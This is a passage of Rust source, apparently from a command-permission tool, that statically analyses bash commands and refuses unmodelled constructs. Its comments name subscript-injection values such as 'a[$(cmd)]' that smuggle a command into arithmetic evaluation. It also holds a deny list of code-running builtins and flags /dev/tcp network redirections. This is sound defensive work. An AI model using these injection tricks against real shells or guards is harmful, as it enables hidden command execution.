//! Bash command analysis: parse a command with brush-parser and reduce it to the simple commands
//! it would run, the variables it would set, and the files its redirections would read or
//! write, or say why that cannot be done safely.
//!
//! Fail closed: anything the walk does not model is [`Unanalysable`] — functions, arithmetic
//! commands and any arithmetic over something not proven to be a number (`$((V))`, `${A[i]}`,
//! `${X:n}`, `$[...]`, an indirect `${!X}`: a variable can hold `a[$(cmd)]`), coprocesses,
//! `eval`/`exec`/`source`/`hash`, expansions in command position, a `cd` whose target is not
//! known, a `cd` inside a loop, a wrapper whose options are not understood, substitutions
//! nested inside `${...}`. Command and process substitutions, `bash -c`/`sh -c` scripts, the
//! command strings of `watch`/`script -c`/`su -c` and the commands `find -exec` runs are
//! analysed recursively: their commands are part of the result.

use std::path::{Path, PathBuf};

use brush_parser::ast::{
    Command, CommandPrefixOrSuffixItem, CompoundCommand, CompoundList, ExtendedTestExpr,
    IoFileRedirectKind, IoFileRedirectTarget, IoRedirect, Pipeline, RedirectList, SimpleCommand,
    Word,
};
use brush_parser::word::{Parameter, ParameterExpr, WordPiece, WordPieceWithSource};
use brush_parser::{Parser, ParserOptions};

use super::changes::{self, Change};
use super::invocation::{self, Invocation, Runs};
pub use super::word::{ArgWord, PROCESS_SUBSTITUTION};
use super::wrappers::{self, Layer};
use super::{git, paths, posix, program};

/// Commands longer than this are never analysed (they are denied).
pub const MAX_COMMAND_CHARS: usize = 10_000;

/// How deeply substitutions may nest before the analysis gives up.
const MAX_DEPTH: usize = 16;

/// How deeply brackets may nest (counted lexically, quotes ignored) before the command is
/// refused unparsed: the parser recurses per level and must not overflow the stack.
const MAX_BRACKET_DEPTH: usize = 32;

/// Most directories a command may possibly be in (each `cd` may fail) before the analysis
/// gives up.
const MAX_CWDS: usize = 8;

/// Why a command cannot be analysed safely.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{reason}")]
pub struct Unanalysable {
    /// What runner could not model.
    pub reason: String,
}

fn unanalysable<T>(reason: impl Into<String>) -> Result<T, Unanalysable> {
    Err(Unanalysable {
        reason: reason.into(),
    })
}

/// A word being unquoted: the word, and its glob pattern so far (`None` once something that is
/// not a pattern is seen).
struct Acc {
    word: ArgWord,
    pattern: Option<String>,
}

/// A variable assignment.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EnvAssignment {
    /// Variable name.
    pub name: String,
    /// Whether the value is fully static.
    pub static_value: bool,
}

/// One simple command the shell would run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SimpleCmd {
    /// Environment assignments for this command: leading `FOO=1 cmd` and `env FOO=1 cmd`, or
    /// the whole statement for `FOO=1` alone (then they set shell variables, see
    /// [`SimpleCmd::words`]).
    pub assignments: Vec<EnvAssignment>,
    /// Shell variables the command sets by other means (`read`, `printf -v`, `declare`,
    /// `export`, `local`, `mapfile`, `getopts`, `unset`).
    pub sets: Vec<EnvAssignment>,
    /// All words, wrappers included (`timeout 10 cargo test`).
    pub words: Vec<ArgWord>,
    /// Index of the real command in `words` after the wrappers (`words.len()` when a wrapper
    /// runs a command string, whose commands are analysed on their own).
    pub start: usize,
    /// The wrappers in front of the real command, outermost first.
    pub layers: Vec<Layer>,
    /// Whether the command gets arguments runner cannot see (`xargs`, `find -exec ... {}`).
    pub unseen_args: bool,
    /// The directory the command runs in, as far as `cd` commands before it tell.
    pub cwd: PathBuf,
    /// Other directories it may run in (an earlier `cd` may fail): relative paths are checked
    /// against each.
    pub other_cwds: Vec<PathBuf>,
    /// It runs a script whose commands are in the analysis (`bash -c SCRIPT`, `watch CMD`,
    /// `script -c CMD`), so this command itself only needs to pass deny and ask rules and its
    /// wrappers' own checks.
    pub shell_wrapper: bool,
    /// The name of a shell other than bash it runs code with (`zsh -c`, `fish`): runner does
    /// not parse its language.
    pub foreign_shell: Option<String>,
    /// Files its wrappers write (`flock`'s lock file, `script`'s typescript, `time -o`).
    pub wrapper_writes: Vec<ArgWord>,
    /// A wrapper clears or unsets environment variables (`env -i`, `env -u`): the command
    /// does not run with the environment runner gives read-only commands.
    pub env_cleared: bool,
    /// An earlier command of the line (or one that may run at the same time or after it: in
    /// a loop, a pipeline or the background) changes the file system this way, so the
    /// command's paths are judged unknown ([`Change`]).
    pub after_change: Option<Change>,
}

impl SimpleCmd {
    fn new(words: Vec<ArgWord>, cwds: &[PathBuf]) -> SimpleCmd {
        SimpleCmd {
            assignments: vec![],
            sets: vec![],
            words,
            start: 0,
            layers: vec![],
            unseen_args: false,
            cwd: cwds[0].clone(),
            other_cwds: cwds[1..].to_vec(),
            shell_wrapper: false,
            foreign_shell: None,
            wrapper_writes: vec![],
            env_cleared: false,
            after_change: None,
        }
    }

    /// The words from `from` on, joined by spaces, for rule matching. Returns the text and
    /// whether it stops at a dynamic word or before arguments runner cannot see (the text is
    /// then only a static prefix, ending in a space).
    pub fn match_text(&self, from: usize) -> (String, bool) {
        let mut out = String::new();
        for (i, w) in self.words.iter().enumerate().skip(from) {
            if i > from {
                out.push(' ');
            }
            out.push_str(&w.text);
            if w.dynamic {
                return (out, true);
            }
        }
        if self.unseen_args && from < self.words.len() {
            out.push(' ');
            return (out, true);
        }
        (out, false)
    }

    /// The real command's words (after wrappers).
    pub fn argv(&self) -> &[ArgWord] {
        self.words.get(self.start..).unwrap_or(&[])
    }

    /// Every directory the command may run in: `cwd` first.
    pub fn cwds(&self) -> impl Iterator<Item = &Path> {
        std::iter::once(self.cwd.as_path()).chain(self.other_cwds.iter().map(PathBuf::as_path))
    }

    /// The command as written (raw words), for reasons.
    pub fn display(&self) -> String {
        let mut parts: Vec<String> = self
            .assignments
            .iter()
            .map(|a| format!("{}=…", a.name))
            .collect();
        parts.extend(self.words.iter().map(|w| w.raw.clone()));
        parts.join(" ")
    }
}

/// A file a redirection would write.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FileWrite {
    /// The target as written.
    pub target: String,
    /// Resolved against the tracked working directory.
    pub path: PathBuf,
    /// Resolved against the other directories the command may be in (each `cd` may fail).
    pub other_paths: Vec<PathBuf>,
    /// How an earlier command of the line changed the file system ([`Change`]).
    pub after_change: Option<Change>,
}

/// A file an input redirection (`< file`) would read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FileRead {
    /// The source word.
    pub word: ArgWord,
    /// The directory it resolves against.
    pub cwd: PathBuf,
    /// The other directories the command may be in.
    pub other_cwds: Vec<PathBuf>,
    /// How an earlier command of the line changed the file system ([`Change`]).
    pub after_change: Option<Change>,
}

/// What a command would do.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Analysis {
    /// Every simple command, in source order, substitutions included.
    pub commands: Vec<SimpleCmd>,
    /// Every file written by an output redirection (other than `/dev/null` and fd dups).
    pub writes: Vec<FileWrite>,
    /// Every file read by an input redirection.
    pub reads: Vec<FileRead>,
    /// Shell variables set by `for NAME in ...` loops.
    pub loop_variables: Vec<EnvAssignment>,
    /// Redirections to bash's network pseudo-files (`/dev/tcp/HOST/PORT`, `/dev/udp/...`), as
    /// written.
    pub network: Vec<String>,
}

/// Analyse `command`, run in `cwd`.
pub fn analyse(command: &str, cwd: &Path) -> Result<Analysis, Unanalysable> {
    if command.chars().count() > MAX_COMMAND_CHARS {
        return unanalysable(format!(
            "the command is longer than {MAX_COMMAND_CHARS} characters"
        ));
    }
    if bracket_depth(command) > MAX_BRACKET_DEPTH {
        return unanalysable(format!(
            "brackets are nested more than {MAX_BRACKET_DEPTH} levels deep"
        ));
    }
    let mut w = Walker {
        cwds: vec![cwd.to_path_buf()],
        oldpwd: None,
        dirstack: Vec::new(),
        loops: 0,
        unseen: 0,
        stdin: Stdin::Inherited,
        piped: false,
        out: Analysis::default(),
        opts: ParserOptions::default(),
        depth: 0,
        change: None,
        pending_names: false,
        pipeline: false,
        unordered: None,
        async_seen: false,
    };
    w.source(command)?;
    w.settle_changes();
    Ok(w.out)
}

/// The deepest nesting of `(`/`{` and compound-command keywords (`if`…`fi`, `for`/`while`/
/// `until`…`done`, `case`…`esac`) in `s`, ignoring quoting (an over-estimate is fine).
fn bracket_depth(s: &str) -> usize {
    let (mut depth, mut max) = (0usize, 0usize);
    let mut word = String::new();
    let flush = |word: &mut String, depth: &mut usize, max: &mut usize| {
        match word.as_str() {
            "if" | "for" | "while" | "until" | "case" | "select" => {
                *depth += 1;
                *max = (*max).max(*depth);
            }
            "fi" | "done" | "esac" => *depth = depth.saturating_sub(1),
            _ => {}
        }
        word.clear();
    };
    for c in s.chars() {
        if c.is_ascii_alphanumeric() || c == '_' {
            word.push(c);
            continue;
        }
        flush(&mut word, &mut depth, &mut max);
        match c {
            '(' | '{' => {
                depth += 1;
                max = max.max(depth);
            }
            ')' | '}' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    flush(&mut word, &mut depth, &mut max);
    max
}

/// Names that run strings as code, change how later commands are looked up, or evaluate
/// arithmetic.
const CODE_RUNNERS: &[&str] = &[
    "eval", "exec", "source", ".", "alias", "trap", "enable", "coproc", "fc", "hash", "let",
    "compgen", "complete", "bind",
];

/// Shells whose language is not bash's: code given to them is not analysed.
const FOREIGN_SHELLS: &[&str] = &[
    "zsh",
    "fish",
    "ksh",
    "ksh93",
    "mksh",
    "pdksh",
    "oksh",
    "loksh",
    "lksh",
    "posh",
    "yash",
    "csh",
    "tcsh",
    "rc",
    "es",
    "elvish",
    "nu",
    "nushell",
    "xonsh",
    "pwsh",
    "powershell",
    "osh",
    "ysh",
    "oil",
    "ion",
    "murex",
    "hush",
    "scsh",
    "tclsh",
    "wish",
];

/// Shell variables bash sets for the builtins that assign them by default; they steer nothing.
/// None is integer-typed or evaluated as arithmetic when assigned: a value such as
/// `a[$(cmd)]` given to `OPTIND` (integer-typed in bash) runs the command, so it, like every
/// other integer or arithmetic special variable ([`variables::ARITHMETIC_SPECIALS`]), is not
/// here.
///
/// [`variables::ARITHMETIC_SPECIALS`]: super::variables::ARITHMETIC_SPECIALS
pub const INERT_SHELL_VARIABLES: &[&str] = &["REPLY", "MAPFILE", "OPTARG"];

struct Walker {
    /// The directories the shell may be in: the most likely first.
    cwds: Vec<PathBuf>,
    /// `$OLDPWD` as far as a `cd` in the command set it.
    oldpwd: Option<Vec<PathBuf>>,
    /// The `pushd` stack the command built.
    dirstack: Vec<Vec<PathBuf>>,
    /// How many loops the walk is inside.
    loops: usize,
    /// How many levels of "arguments runner cannot see" the walk is inside.
    unseen: usize,
    /// What the simple command being walked reads on its standard input.
    stdin: Stdin,
    /// Whether the command being walked is fed by a pipe.
    piped: bool,
    out: Analysis,
    opts: ParserOptions,
    depth: usize,
    /// The greatest change of the file system the commands walked so far make.
    change: Option<Change>,
    /// An output redirection created a file: a new name once its command is recorded.
    pending_names: bool,
    /// Whether the walk is inside a pipeline of several commands (they run at once).
    pipeline: bool,
    /// The greatest change made where order does not hold (a loop, a pipeline): every
    /// command of the line is after it.
    unordered: Option<Change>,
    /// Whether the line runs something in the background (`&`).
    async_seen: bool,
}

/// A simple command's standard input, as far as its redirections tell.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Stdin {
    /// Not redirected: a pipe when the command is fed by one, else runner's `/dev/null`.
    Inherited,
    /// A here-document or here-string with this static text.
    Static(String),
    /// A file, or text that depends on an expansion.
    Unknown,
}

/// The directory state a subshell saves and restores.
type DirState = (Vec<PathBuf>, Option<Vec<PathBuf>>, Vec<Vec<PathBuf>>);

impl Walker {
    /// Parse and walk a piece of shell source (the command, or a substitution's body).
    fn source(&mut self, text: &str) -> Result<(), Unanalysable> {
        self.depth += 1;
        if self.depth > MAX_DEPTH {
            return unanalysable("substitutions are nested too deeply");
        }
        let mut parser = Parser::new(std::io::Cursor::new(text.as_bytes()), &self.opts);
        let program = match parser.parse_program() {
            Ok(p) => p,
            Err(e) => return unanalysable(format!("the shell parser rejected it ({e})")),
        };
        for list in &program.complete_commands {
            self.list(list)?;
        }
        self.depth -= 1;
        Ok(())
    }

    fn dir_state(&self) -> DirState {
        (
            self.cwds.clone(),
            self.oldpwd.clone(),
            self.dirstack.clone(),
        )
    }

    fn restore(&mut self, s: DirState) {
        (self.cwds, self.oldpwd, self.dirstack) = s;
    }

    /// Walk something that runs in a subshell: `cd` inside does not leak out.
    fn isolated<F>(&mut self, f: F) -> Result<(), Unanalysable>
    where
        F: FnOnce(&mut Self) -> Result<(), Unanalysable>,
    {
        let saved = self.dir_state();
        let r = f(self);
        self.restore(saved);
        r
    }

    /// Walk code whose commands get arguments runner cannot see.
    fn unseen<F>(&mut self, f: F) -> Result<(), Unanalysable>
    where
        F: FnOnce(&mut Self) -> Result<(), Unanalysable>,
    {
        self.unseen += 1;
        let r = self.isolated(f);
        self.unseen -= 1;
        r
    }

    fn list(&mut self, list: &CompoundList) -> Result<(), Unanalysable> {
        for item in &list.0 {
            if matches!(item.1, brush_parser::ast::SeparatorOperator::Async) {
                self.async_seen = true;
            }
            let and_or = &item.0;
            self.pipeline(&and_or.first)?;
            for next in &and_or.additional {
                match next {
                    brush_parser::ast::AndOr::And(p) | brush_parser::ast::AndOr::Or(p) => {
                        self.pipeline(p)?
                    }
                }
            }
        }
        Ok(())
    }

    fn pipeline(&mut self, p: &Pipeline) -> Result<(), Unanalysable> {
        if p.seq.len() > 1 {
            // Every part of a multi-command pipeline runs in its own subshell.
            let in_pipeline = std::mem::replace(&mut self.pipeline, true);
            for (i, c) in p.seq.iter().enumerate() {
                let outer = std::mem::replace(&mut self.piped, i > 0);
                let r = self.isolated(|w| w.command(c));
                self.piped = outer;
                if r.is_err() {
                    self.pipeline = in_pipeline;
                }
                r?;
            }
            self.pipeline = in_pipeline;
            Ok(())
        } else {
            p.seq.iter().try_for_each(|c| self.command(c))
        }
    }

    fn command(&mut self, c: &Command) -> Result<(), Unanalysable> {
        match c {
            Command::Simple(s) => self.simple(s),
            Command::Compound(cc, redirects) => {
                self.compound(cc)?;
                self.redirect_list(redirects.as_ref())
            }
            Command::Function(f) => {
                unanalysable(format!("it defines a shell function (`{}`)", f.fname.value))
            }
            Command::ExtendedTest(t, redirects) => {
                self.extended_test(&t.expr)?;
                let cmd = SimpleCmd::new(vec![ArgWord::literal("[[")], &self.cwds);
                self.push(cmd);
                self.redirect_list(redirects.as_ref())
            }
        }
    }

    fn push(&mut self, mut cmd: SimpleCmd) {
        if self.unseen > 0 {
            cmd.unseen_args = true;
        }
        cmd.after_change = self.change;
        let own = changes::of(cmd.argv());
        self.out.commands.push(cmd);
        self.note_change(own);
    }

    /// Record that a command just walked changes the file system (`own`), and the names its
    /// redirections created.
    fn note_change(&mut self, own: Option<Change>) {
        let names = std::mem::take(&mut self.pending_names).then_some(Change::Names);
        let c = own.max(names);
        self.change = self.change.max(c);
        if self.loops > 0 || self.pipeline {
            self.unordered = self.unordered.max(c);
        }
    }

    /// Once the whole line is walked: a change made in a loop or a pipeline, or anywhere when
    /// something runs in the background, comes before every command of the line.
    fn settle_changes(&mut self) {
        self.note_change(None);
        let all = if self.async_seen {
            self.change
        } else {
            self.unordered
        };
        if all.is_none() {
            return;
        }
        for c in &mut self.out.commands {
            c.after_change = c.after_change.max(all);
        }
        for w in &mut self.out.writes {
            w.after_change = w.after_change.max(all);
        }
        for r in &mut self.out.reads {
            r.after_change = r.after_change.max(all);
        }
    }

    fn in_loop<F>(&mut self, f: F) -> Result<(), Unanalysable>
    where
        F: FnOnce(&mut Self) -> Result<(), Unanalysable>,
    {
        self.loops += 1;
        let r = f(self);
        self.loops -= 1;
        r
    }

    fn compound(&mut self, cc: &CompoundCommand) -> Result<(), Unanalysable> {
        match cc {
            CompoundCommand::BraceGroup(b) => self.list(&b.list),
            CompoundCommand::Subshell(s) => self.isolated(|w| w.list(&s.list)),
            CompoundCommand::ForClause(f) => {
                let mut static_value = true;
                for v in f.values.iter().flatten() {
                    static_value &= !self.word(v)?.dynamic;
                }
                self.out.loop_variables.push(EnvAssignment {
                    name: f.variable_name.clone(),
                    static_value: static_value && f.values.is_some(),
                });
                self.in_loop(|w| w.list(&f.body.list))
            }
            CompoundCommand::CaseClause(c) => {
                self.word(&c.value)?;
                for item in &c.cases {
                    for p in &item.patterns {
                        self.word(p)?;
                    }
                    if let Some(body) = &item.cmd {
                        self.list(body)?;
                    }
                }
                Ok(())
            }
            CompoundCommand::IfClause(i) => {
                self.list(&i.condition)?;
                self.list(&i.then)?;
                for e in i.elses.iter().flatten() {
                    if let Some(cond) = &e.condition {
                        self.list(cond)?;
                    }
                    self.list(&e.body)?;
                }
                Ok(())
            }
            CompoundCommand::WhileClause(w) | CompoundCommand::UntilClause(w) => {
                self.in_loop(|me| {
                    me.list(&w.0)?;
                    me.list(&w.1.list)
                })
            }
            CompoundCommand::Arithmetic(_) | CompoundCommand::ArithmeticForClause(_) => {
                unanalysable("it uses an arithmetic command `(( ... ))`")
            }
            CompoundCommand::Coprocess(_) => unanalysable("it starts a coprocess"),
        }
    }

    fn extended_test(&mut self, e: &ExtendedTestExpr) -> Result<(), Unanalysable> {
        use brush_parser::ast::{BinaryPredicate as B, UnaryPredicate as U};
        match e {
            ExtendedTestExpr::And(a, b) | ExtendedTestExpr::Or(a, b) => {
                self.extended_test(a)?;
                self.extended_test(b)
            }
            ExtendedTestExpr::Not(a) | ExtendedTestExpr::Parenthesized(a) => self.extended_test(a),
            ExtendedTestExpr::UnaryTest(p, w) => {
                if matches!(
                    p,
                    U::ShellVariableIsSetAndAssigned | U::ShellVariableIsSetAndNameRef
                ) {
                    // `-v 'a[$(cmd)]'` evaluates the subscript.
                    return unanalysable("it uses `[[ -v ... ]]`");
                }
                self.word(w).map(|_| ())
            }
            ExtendedTestExpr::BinaryTest(p, a, b) => {
                if matches!(
                    p,
                    B::ArithmeticEqualTo
                        | B::ArithmeticNotEqualTo
                        | B::ArithmeticLessThan
                        | B::ArithmeticLessThanOrEqualTo
                        | B::ArithmeticGreaterThan
                        | B::ArithmeticGreaterThanOrEqualTo
                ) {
                    // Operands are evaluated as arithmetic, which can run substitutions.
                    return unanalysable("it uses an arithmetic comparison inside `[[ ... ]]`");
                }
                self.word(a)?;
                self.word(b).map(|_| ())
            }
        }
    }

    fn simple(&mut self, s: &SimpleCommand) -> Result<(), Unanalysable> {
        let outer = std::mem::replace(&mut self.stdin, Stdin::Inherited);
        let piped = std::mem::replace(&mut self.piped, false);
        let r = self.simple_inner(s, piped);
        self.stdin = outer;
        self.piped = piped;
        r
    }

    fn simple_inner(&mut self, s: &SimpleCommand, piped: bool) -> Result<(), Unanalysable> {
        let mut assignments = Vec::new();
        let mut words = Vec::new();
        for item in s.prefix.iter().flat_map(|p| p.0.iter()) {
            match item {
                CommandPrefixOrSuffixItem::AssignmentWord(a, _) => {
                    assignments.push(self.assignment(a)?);
                }
                other => self.item(other, &mut words)?,
            }
        }
        if let Some(name) = &s.word_or_name {
            words.push(self.word(name)?);
        }
        for item in s.suffix.iter().flat_map(|p| p.0.iter()) {
            self.item(item, &mut words)?;
        }
        if words.is_empty() && assignments.is_empty() {
            // Only redirections (`> file`): the writes are already recorded.
            self.note_change(None);
            return Ok(());
        }
        let unwrapped = wrappers::unwrap(&words).map_err(|e| Unanalysable { reason: e.0 })?;
        let start = unwrapped.start;
        // The names of the wrappers and of the command they run.
        let names = unwrapped
            .layers
            .iter()
            .map(|l| l.at)
            .chain((start < words.len()).then_some(start));
        for i in names {
            let w = &words[i];
            if w.dynamic || w.text.is_empty() {
                return unanalysable(format!(
                    "the command name `{}` depends on an expansion",
                    w.raw
                ));
            }
            if w.text.chars().any(char::is_whitespace) {
                return unanalysable(format!("the command name `{}` contains whitespace", w.raw));
            }
            if i > 0 && w.text.contains('=') {
                return unanalysable(format!(
                    "`{}` after a wrapper is run as a program name, not an assignment",
                    w.raw
                ));
            }
            if CODE_RUNNERS.contains(&w.text.as_str()) {
                return unanalysable(format!(
                    "`{}` runs text as shell code, changes how commands are found, or evaluates arithmetic",
                    w.text
                ));
            }
        }
        let mut cmd = SimpleCmd::new(words, &self.cwds);
        cmd.start = start;
        cmd.layers = unwrapped.layers;
        cmd.unseen_args = unwrapped.unseen_args;
        cmd.wrapper_writes = unwrapped.writes;
        cmd.env_cleared = unwrapped.env_cleared;
        cmd.assignments = assignments;
        cmd.assignments.extend(
            unwrapped
                .env
                .into_iter()
                .map(|(name, static_value)| EnvAssignment { name, static_value }),
        );
        if let Some(script) = unwrapped.script {
            // `watch CMD`, `script -c CMD`, `su -c CMD`, `flock FILE -c CMD`: run by a shell
            // (`sh -c`, or `$SHELL`), read as a POSIX shell reads it.
            cmd.shell_wrapper = true;
            let name = cmd
                .layers
                .last()
                .map(|l| l.name.clone())
                .unwrap_or_default();
            return self.run_shell(cmd, &name, &script.text, true);
        }
        cmd.sets = self.builtin_sets(cmd.argv())?;
        if has_redirect(s) {
            cmd.sets.extend(fd_variables(&cmd.words)?);
        }
        if let Some(name) = cmd.argv().first()
            && matches!(name.text.as_str(), "test" | "[")
            && cmd.argv()[1..]
                .iter()
                .any(|w| w.dynamic || matches!(w.text.as_str(), "-v" | "-R"))
            && cmd.argv()[1..]
                .iter()
                .any(|w| !w.dynamic && matches!(w.text.as_str(), "-v" | "-R"))
        {
            // `test -v 'a[$(cmd)]'` evaluates the subscript.
            return unanalysable(format!(
                "`{} -v` evaluates a variable's subscript",
                name.text
            ));
        }
        let Some(cmd) = self.shell_code(cmd, piped)? else {
            return Ok(());
        };
        let exec = find_exec(cmd.argv())?;
        let parallel = parallel_script(cmd.argv())?;
        self.change_directory(cmd.argv())?;
        self.push(cmd);
        for (words, in_dir) in exec {
            self.exec_command(words, in_dir)?;
        }
        if let Some(script) = parallel {
            self.unseen(|w| w.source(&script))?;
        }
        Ok(())
    }

    /// A command that runs shell code: another shell's (recorded as foreign), a git alias
    /// body, a `bash`/`sh -c` script or a script on its standard input (walked). `Ok(None)`:
    /// recorded here; `Ok(Some(cmd))`: none of those, the caller records it.
    fn shell_code(
        &mut self,
        mut cmd: SimpleCmd,
        piped: bool,
    ) -> Result<Option<SimpleCmd>, Unanalysable> {
        if let Some(name) =
            foreign_shell(cmd.argv()).or_else(|| multicall_shell(&cmd.layers, cmd.argv()))
        {
            cmd.foreign_shell = Some(name);
            self.push(cmd);
            return Ok(None);
        }
        if cmd
            .argv()
            .first()
            .and_then(|w| program::system_name(&w.text))
            == Some("git")
            && let Some((body, args)) =
                git::alias_body(&cmd.argv()[1..]).map_err(|e| Unanalysable { reason: e.0 })?
        {
            // `git -c alias.c='!BODY' c`: git runs BODY with `sh -c`, the rest as its arguments.
            cmd.shell_wrapper = true;
            cmd.unseen_args |= args;
            return self.run_shell(cmd, "git", &body, true).map(|()| None);
        }
        let shell = invocation::parse(cmd.argv()).map_err(|e| Unanalysable { reason: e.0 })?;
        if let Some(Invocation {
            shell,
            runs: Runs::Script(script),
        }) = &shell
        {
            if script.dynamic {
                return unanalysable(format!(
                    "the script given to `{shell} -c` (`{}`) depends on an expansion",
                    script.raw
                ));
            }
            cmd.shell_wrapper = true;
            let (shell, script) = (shell.clone(), script.text.clone());
            return self
                .run_shell(cmd, &shell, &script, invocation::is_posix(&shell))
                .map(|()| None);
        }
        if let Some(Invocation {
            shell: name,
            runs: Runs::Stdin,
        }) = shell
        {
            let stdin = std::mem::replace(&mut self.stdin, Stdin::Inherited);
            match (stdin, piped) {
                // Commands from a static here-document or here-string: analysed.
                (Stdin::Static(text), _) => {
                    cmd.shell_wrapper = true;
                    let posix = invocation::is_posix(&name);
                    return self.run_shell(cmd, &name, &text, posix).map(|()| None);
                }
                // `/dev/null`: nothing to run.
                (Stdin::Inherited, false) => {}
                // From a pipe or a file: code runner cannot see.
                _ => {
                    cmd.foreign_shell = Some(name);
                    self.push(cmd);
                    return Ok(None);
                }
            }
        }
        Ok(Some(cmd))
    }

    /// Record `cmd`, which runs `script` through a shell, and walk the script: in its own
    /// subshell, and with arguments runner cannot see when the command gets them (`xargs sh
    /// -c 'rm "$1"'`, `xargs -I{} sh -c 'rm {}'`: the script's words are replaced or extended
    /// from the input).
    fn run_script(&mut self, cmd: SimpleCmd, script: &str) -> Result<(), Unanalysable> {
        let unseen = cmd.unseen_args || self.unseen > 0;
        self.push(cmd);
        if unseen {
            self.unseen(|w| w.source(script))
        } else {
            self.isolated(|w| w.source(script))
        }
    }

    /// [`Self::run_script`] for a script `shell` runs; a POSIX shell's script (`posix`) is
    /// refused when bash would read it differently ([`posix::check`]).
    fn run_shell(
        &mut self,
        cmd: SimpleCmd,
        shell: &str,
        script: &str,
        posix: bool,
    ) -> Result<(), Unanalysable> {
        if posix && let Err(what) = posix::check(script) {
            return unanalysable(format!(
                "the script `{shell}` runs uses {what}, which a POSIX shell such as dash (`/bin/sh` on Debian and Ubuntu) reads differently from bash; write the script for bash and run it with `bash -c`"
            ));
        }
        self.run_script(cmd, script)
    }

    /// A command `find -exec` runs (`{}` is a file name runner cannot see).
    fn exec_command(&mut self, words: Vec<ArgWord>, in_dir: bool) -> Result<(), Unanalysable> {
        let unwrapped = wrappers::unwrap(&words).map_err(|e| Unanalysable { reason: e.0 })?;
        if unwrapped.script.is_some() {
            return unanalysable("`find -exec` runs a wrapper that takes a command string");
        }
        for w in words.iter().take(unwrapped.start + 1) {
            if w.dynamic || w.text.is_empty() {
                return unanalysable(format!(
                    "the command `find -exec` runs (`{}`) depends on an expansion",
                    w.raw
                ));
            }
            if CODE_RUNNERS.contains(&w.text.as_str()) {
                return unanalysable(format!(
                    "`find -exec` runs `{}`, which runs text as shell code",
                    w.text
                ));
            }
        }
        let mut cmd = SimpleCmd::new(words, &self.cwds);
        cmd.start = unwrapped.start;
        cmd.layers = unwrapped.layers;
        cmd.unseen_args = unwrapped.unseen_args || in_dir;
        cmd.wrapper_writes = unwrapped.writes;
        cmd.env_cleared = unwrapped.env_cleared;
        cmd.assignments = unwrapped
            .env
            .into_iter()
            .map(|(name, static_value)| EnvAssignment { name, static_value })
            .collect();
        if let Some(name) =
            foreign_shell(cmd.argv()).or_else(|| multicall_shell(&cmd.layers, cmd.argv()))
        {
            cmd.foreign_shell = Some(name);
            self.push(cmd);
            return Ok(());
        }
        if let Some(Invocation {
            shell,
            runs: Runs::Script(script),
        }) = invocation::parse(cmd.argv()).map_err(|e| Unanalysable { reason: e.0 })?
        {
            if script.dynamic {
                return unanalysable(format!(
                    "the script `find -exec {shell} -c` runs depends on an expansion"
                ));
            }
            if invocation::is_posix(&shell)
                && let Err(what) = posix::check(&script.text)
            {
                return unanalysable(format!(
                    "the script `{shell}` runs uses {what}, which a POSIX shell reads differently from bash"
                ));
            }
            cmd.shell_wrapper = true;
            self.push(cmd);
            return self.unseen(|w| w.source(&script.text));
        }
        self.push(cmd);
        Ok(())
    }

    /// The variables a builtin sets (`read`, `printf -v`, `declare`, `export`, `local`,
    /// `readonly`, `typeset`, `mapfile`, `readarray`, `getopts`, `unset`, `wait -p`), by
    /// [`BUILTIN_SETS`].
    fn builtin_sets(&self, argv: &[ArgWord]) -> Result<Vec<EnvAssignment>, Unanalysable> {
        let Some((name, args)) = argv.split_first() else {
            return Ok(vec![]);
        };
        match BUILTIN_SETS
            .iter()
            .find(|(names, _)| names.contains(&name.text.as_str()))
        {
            Some((_, sets)) => sets(name, args),
            None => Ok(vec![]),
        }
    }

    /// Follow `cd`, `pushd` and `popd`: the directories later commands may run in. Any form
    /// whose target is not known (`cd` alone, `cd ~`, `cd $X`, `cd -` with no earlier `cd`,
    /// `pushd +1`, `popd` with no earlier `pushd`), or any inside a loop, is unanalysable.
    fn change_directory(&mut self, argv: &[ArgWord]) -> Result<(), Unanalysable> {
        let Some(name) = argv.first().map(|w| w.text.as_str()) else {
            return Ok(());
        };
        if !matches!(name, "cd" | "pushd" | "popd" | "chdir") {
            return Ok(());
        }
        if self.loops > 0 {
            return unanalysable(format!(
                "`{name}` inside a loop may run any number of times"
            ));
        }
        let mut physical = false;
        let mut operands = Vec::new();
        let mut options_end = false;
        for w in &argv[1..] {
            if w.dynamic {
                return unanalysable(format!(
                    "`{name} {}` goes to a directory only known at run time",
                    w.raw
                ));
            }
            let t = w.text.as_str();
            if !options_end && t == "--" {
                options_end = true;
            } else if !options_end && t.len() > 1 && t.starts_with('-') && name != "popd" {
                if t[1..].chars().all(|c| "LPe@".contains(c)) && name != "pushd" {
                    physical = t.contains('P') || (physical && !t.contains('L'));
                } else {
                    return unanalysable(format!("`{name} {t}` is not a form runner follows"));
                }
            } else {
                operands.push(t);
            }
        }
        let targets: Vec<PathBuf> = match (name, operands.as_slice()) {
            ("popd", []) => match self.dirstack.pop() {
                Some(d) => d,
                None => return unanalysable("`popd` returns to a directory runner does not know"),
            },
            ("popd", _) => {
                return unanalysable("`popd` with arguments is not a form runner follows");
            }
            (_, []) => {
                return unanalysable(format!(
                    "`{name}` without a directory goes to $HOME, which runner does not follow"
                ));
            }
            (_, ["-"]) if name != "pushd" => match self.oldpwd.clone() {
                Some(d) => d,
                None => {
                    return unanalysable(format!(
                        "`{name} -` goes back to a directory runner does not know"
                    ));
                }
            },
            (_, [dir]) if !(name == "pushd" && (dir.starts_with('+') || dir.starts_with('-'))) => {
                let mut out: Vec<PathBuf> = Vec::new();
                for base in &self.cwds {
                    let phys = paths::resolve(base, Path::new(dir));
                    let logical = paths::resolve(
                        Path::new("/"),
                        &crate::roots::normalize_lexically(&base.join(dir)),
                    );
                    for t in [if physical { phys.clone() } else { logical }, phys] {
                        if !out.contains(&t) {
                            out.push(t);
                        }
                    }
                }
                out
            }
            _ => {
                return unanalysable(format!(
                    "`{}` is not a form of `{name}` runner follows",
                    argv.iter()
                        .map(|w| w.raw.as_str())
                        .collect::<Vec<_>>()
                        .join(" ")
                ));
            }
        };
        let before = self.cwds.clone();
        if name == "pushd" {
            self.dirstack.push(before.clone());
        }
